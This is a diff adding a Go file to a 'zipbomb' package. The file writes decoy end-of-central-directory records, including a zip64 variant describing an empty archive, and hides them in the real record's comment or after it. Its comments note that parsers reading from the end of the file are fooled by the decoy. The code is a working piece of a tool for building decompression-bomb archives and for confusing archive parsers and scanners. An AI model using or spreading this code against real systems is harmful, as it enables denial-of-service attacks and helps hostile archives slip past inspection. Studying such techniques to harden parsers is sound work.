@@ -0,0 +1,59 @@
+package zipbomb
+
+// DecoyEOCD is the placement of a decoy end of central directory record.
+type DecoyEOCD int
+
+const (
+	// NoDecoyEOCD writes no decoy.
+	NoDecoyEOCD DecoyEOCD = iota
+
+	// DecoyEOCDComment hides the decoy in the comment of the real end of
+	// central directory record.
+	DecoyEOCDComment
+
+	// DecoyEOCDTrailing appends the decoy as extra data after the real end of
+	// central directory record.
+	DecoyEOCDTrailing
+)
+
+// decoyEOCDLen returns the length of a decoy end of central directory record.
+func decoyEOCDLen(zip64 bool) int {
+	if zip64 {
+		return directory64EndLen + directory64LocLen + directoryEndLen
+	}
+
+	return directoryEndLen
+}
+
+// decoyEOCD returns a decoy end of central directory record, optionally
+// preceded by a zip64 end of central directory record and locator, that
+// describes an empty archive. Parsers that search the last signature from the
+// end of the file pick the decoy. at is the offset of the decoy.
+func (zb *ZipBomb) decoyEOCD(at int64) []byte {
+	if !zb.opts.DecoyZip64 {
+		return directoryEnd(0, 0, 0, nil)
+	}
+
+	buf := make([]byte, directory64EndLen+directory64LocLen, directory64EndLen+directory64LocLen+directoryEndLen)
+	b := writeBuf(buf)
+
+	// zip64 end of central directory record
+	b.uint32(directory64EndSignature)
+	b.uint64(directory64EndLen - 12) // length minus signature (uint32) and length fields (uint64)
+	b.uint16(zipVersion45)           // version made by
+	b.uint16(zipVersion45)           // version needed to extract
+	b.uint32(0)                      // number of this disk
+	b.uint32(0)                      // number of the disk with the start of the central directory
+	b.uint64(0)                      // total number of entries in the central directory on this disk
+	b.uint64(0)                      // total number of entries in the central directory
+	b.uint64(0)                      // size of the central directory
+	b.uint64(0)                      // offset of start of central directory with respect to the starting disk number
+
+	// zip64 end of central directory locator
+	b.uint32(directory64LocSignature)
+	b.uint32(0)          // number of the disk with the start of the zip64 end of central directory
+	b.uint64(uint64(at)) // relative offset of the zip64 end of central directory record
+	b.uint32(1)          // total number of disks
+
+	return append(buf, directoryEnd(uint16max, uint32max, uint32max, nil)...)
+}